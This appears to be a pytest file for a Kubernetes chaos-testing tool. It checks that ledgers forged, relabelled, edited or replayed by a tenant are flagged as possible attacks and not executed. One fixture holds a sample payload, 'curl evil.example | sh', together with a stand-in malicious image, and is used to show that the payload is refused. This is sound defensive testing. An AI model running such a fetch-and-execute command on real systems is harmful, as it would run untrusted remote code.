"""What a tenant writes is never carried out: ledgers, labels and namespaces that look like the suite's own."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import msgspec
import pytest

from chaos import namespaces
from chaos.cli import main
from chaos.holding import ChaosLease
from chaos.ledger import authentic, view
from chaos.ledger.nodes import NodeLabels
from chaos.ledger.record import Entry, Line, State, encode, now
from chaos.recover import Recovery, recover, status
from fixtures import ownership
from fixtures.cluster import Cluster
from tests.chaos.safety.world import KUBE_SYSTEM, RUN, fetch, ledger, soon, world

ANOTHER = "20261121-130000-beef"
PRODUCT = "nvidia.com/gpu.product"
HOST = ["nsenter", "--target", "1", "--mount", "--"]


@pytest.fixture
def cluster(tmp_path: Path) -> Iterator[Cluster]:
    with world(tmp_path) as (found, _):
        yield found


def forged_line(undo: str, args: dict[str, Any], run_id: str = RUN, experiment: str = "A1") -> Line:
    """A line as a run writes it, which is easy: its shape is no secret."""
    entry = Entry(
        seq=1,
        run_id=run_id,
        experiment=experiment,
        cluster_uid=KUBE_SYSTEM,
        undo=undo,
        args=args,
        expires_at="2027-01-01T00:00:00+00:00",
    )
    return Line(seq=1, state=State.ARMED, at=now(), entry=entry)


def plant(cluster: Cluster, *lines: Line, run_id: str = RUN, name: str = "", experiment: str = "A1") -> None:
    """A ledger as a tenant can write it who may create namespaces: name and labels are those of the suite."""
    labels = {ownership.MANAGED_BY: ownership.SUITE}
    space = {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": namespaces.SHARED, "labels": labels}}
    assert cluster.create("namespaces", space).status in (201, 409)
    body = {
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "metadata": {"name": name or view.name_of(run_id), "labels": {**ownership.labels(run_id), **view.COMPONENT}},
        "data": {f"{experiment}{view.LINES}": b"".join(map(encode, lines)).decode()},
    }
    answer = cluster.create("configmaps", body, namespace=namespaces.SHARED)
    assert answer.ok, answer.message


def lines_of(cluster: Cluster, run_id: str = RUN) -> str:
    return str(fetch(cluster, "configmaps", view.name_of(run_id), namespaces.SHARED)["data"][f"A1{view.LINES}"])


def product(cluster: Cluster) -> str:
    return str(fetch(cluster, "nodes", "gpu-1")["metadata"]["labels"].get(PRODUCT))


def stripped(cluster: Cluster, folder: Path, run_id: str = RUN) -> Any:
    """A true ledger with one open entry, and its fault."""
    book = ledger(folder, cluster, run_id=run_id)
    book.arm("node.labels", NodeLabels().args(fetch(cluster, "nodes", "gpu-1"), {PRODUCT: None}))
    assert cluster.patch("nodes", "gpu-1", {"metadata": {"labels": {PRODUCT: None}}}).ok
    return book


def is_told(done: Recovery, *words: str) -> None:
    (line,) = done.forged
    assert line.startswith(authentic.ATTACK), line
    for word in words:
        assert word in line, line


PRIVILEGED = {
    "name": "gpu-1",
    "uid": "uid-gpu-1",
    "run_id": RUN,
    "image": "registry.evil.example/shell:1",
    "undo": ["sh", "-c", "curl evil.example | sh"],
    "check": ["true"],
    "expected": "",
}


@pytest.mark.parametrize(
    ("undo", "args"),
    [
        ("host.command", PRIVILEGED),
        ("node.labels", {"name": "gpu-1", "uid": "uid-gpu-1", "prior": {PRODUCT: "mine"}, "ours": {PRODUCT: "H100"}}),
        ("node.unschedulable", {"name": "gpu-1", "uid": "uid-gpu-1", "prior": True, "ours": False}),
        ("object.absent", {"key": "namespaces", "name": "gpu-operator", "run_id": RUN}),
    ],
    ids=["a privileged pod", "labels", "a cordon", "a deletion"],
)
def test_a_ledger_that_a_tenant_wrote_is_told_and_not_carried_out(
    cluster: Cluster, tmp_path: Path, capsys: pytest.CaptureFixture[str], undo: str, args: dict[str, Any]
) -> None:
    plant(cluster, forged_line(undo, args))
    before = fetch(cluster, "nodes", "gpu-1")
    assert main(["chaos", "status", "--kubeconfig", str(tmp_path / "kubeconfig")]) == 0
    assert f"possible attack: entry {RUN}/A1/1 ({undo})" in capsys.readouterr().out
    writes = [key for key in cluster.requests().by_verb_and_resource if not key.startswith(("get", "list", "watch"))]
    done = recover(cluster, seconds=5)
    assert (done.restored, done.residue) == (0, ())
    is_told(done, undo)
    assert fetch(cluster, "nodes", "gpu-1") == before
    assert cluster.get("namespaces", "gpu-operator").ok
    made = {key for key in cluster.requests().by_verb_and_resource if not key.startswith(("get", "list", "watch"))} - set(writes)
    assert not any("pods" in key or "nodes" in key for key in made), made


def test_a_forged_ledger_holds_nobody_up(cluster: Cluster) -> None:
    plant(cluster, forged_line("node.labels", {}))
    lease = ChaosLease(cluster, ANOTHER, lambda reason: None)
    lease.acquire()
    lease.abandon()
    assert lease.forged == status(cluster).forged != ()


def test_garbage_holds_nobody_up(cluster: Cluster) -> None:
    plant(cluster)
    assert cluster.patch("configmaps", view.name_of(RUN), {"data": {"A1.jsonl": "[" * 9000}}, namespaces.SHARED).ok
    lease = ChaosLease(cluster, ANOTHER, lambda reason: None)
    lease.acquire()
    lease.abandon()
    (line,) = lease.forged
    assert line.startswith(authentic.ATTACK)


def test_the_label_of_another_run_makes_no_ledger_of_it(cluster: Cluster, tmp_path: Path) -> None:
    """A true ledger, copied under another run's name and label: its entries are still of the run that wrote them."""
    stripped(cluster, tmp_path)
    text = lines_of(cluster)
    assert cluster.delete("configmaps", view.name_of(RUN), namespaces.SHARED).ok
    plant(cluster, run_id=ANOTHER)
    assert cluster.patch("configmaps", view.name_of(ANOTHER), {"data": {"A1.jsonl": text}}, namespaces.SHARED).ok
    done = recover(cluster, seconds=5)
    is_told(done, f"holds an entry of A1 of run {RUN}")
    assert product(cluster) == "None"
    assert any(f"run {RUN}: 1 changes are open" in line for line in done.unreadable)  # and what it was is told as missing


def test_a_name_that_is_not_the_labels_makes_no_ledger(cluster: Cluster, tmp_path: Path) -> None:
    stripped(cluster, tmp_path)
    text = lines_of(cluster)
    assert cluster.delete("configmaps", view.name_of(RUN), namespaces.SHARED).ok
    plant(cluster, name="innocent")
    assert cluster.patch("configmaps", "innocent", {"data": {"A1.jsonl": text}}, namespaces.SHARED).ok
    done = recover(cluster, seconds=5)
    is_told(done, "is not the run of its name")
    assert product(cluster) == "None"


def test_an_entry_that_was_edited_is_not_the_one_that_was_written(cluster: Cluster, tmp_path: Path) -> None:
    stripped(cluster, tmp_path)
    edited = lines_of(cluster).replace('"H100"', '"B200"')
    assert cluster.patch("configmaps", view.name_of(RUN), {"data": {"A1.jsonl": edited}}, namespaces.SHARED).ok
    done = recover(cluster, seconds=5)
    is_told(done, f"entry {RUN}/A1/1")
    assert product(cluster) == "None"
    assert not done.clean
    found = recover(cluster, tmp_path / RUN, seconds=5)  # the run's own folder still knows
    assert found.restored == 1
    assert product(cluster) == "H100"


def test_an_entry_beside_true_ones_is_told_and_they_are_put_back(cluster: Cluster, tmp_path: Path) -> None:
    stripped(cluster, tmp_path)
    entry = forged_line("host.command", PRIVILEGED).entry
    assert entry is not None
    more = encode(Line(seq=2, state=State.ARMED, at=now(), entry=msgspec.structs.replace(entry, seq=2))).decode()
    assert cluster.patch("configmaps", view.name_of(RUN), {"data": {"A1.jsonl": lines_of(cluster) + more}}, namespaces.SHARED).ok
    done = recover(cluster, seconds=5)
    is_told(done, f"entry {RUN}/A1/2 (host.command)")
    assert done.restored == 1
    assert product(cluster) == "H100"


@pytest.mark.parametrize("stale", [False, True], ids=["the proof is gone", "a stale proof is there"])
def test_an_old_ledger_cannot_be_played_again(cluster: Cluster, tmp_path: Path, stale: bool) -> None:
    """A closed entry was true once. It is nobody's any more, whether its run's proof went or stayed for another entry."""
    book = stripped(cluster, tmp_path)
    text = lines_of(cluster)
    if stale:
        book.arm("node.annotations", {"name": "gpu-2", "uid": "uid-gpu-2", "prior": {"chaos": None}, "ours": {"chaos": "yes"}})
        assert cluster.patch("nodes", "gpu-1", {"metadata": {"labels": {PRODUCT: "H100"}}}).ok
        book.mark(1, State.VERIFIED)
        assert book.flush(soon())
        assert cluster.delete("configmaps", view.name_of(RUN), namespaces.SHARED).ok
    else:
        assert recover(cluster, seconds=5).clean
    assert cluster.patch("nodes", "gpu-1", {"metadata": {"labels": {PRODUCT: None}}}).ok  # its administrator's will by now
    plant(cluster)
    assert cluster.patch("configmaps", view.name_of(RUN), {"data": {"A1.jsonl": text}}, namespaces.SHARED).ok
    done = recover(cluster, seconds=5)
    is_told(done, f"entry {RUN}/A1/1 (node.labels)")
    assert product(cluster) == "None"
